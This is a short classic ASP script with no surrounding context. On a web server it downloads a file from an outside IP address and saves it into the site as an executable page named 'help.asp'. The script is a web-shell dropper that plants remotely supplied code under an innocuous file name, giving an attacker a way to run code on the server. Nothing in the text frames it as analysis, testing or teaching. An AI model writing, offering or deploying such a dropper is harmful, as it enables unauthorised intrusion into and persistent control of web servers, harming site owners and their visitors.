<%
Set h = CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "http://198.51.100.23/p.txt", False
h.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write h.responseBody
s.SaveToFile Server.MapPath("help.asp"), 2
s.Close
%>
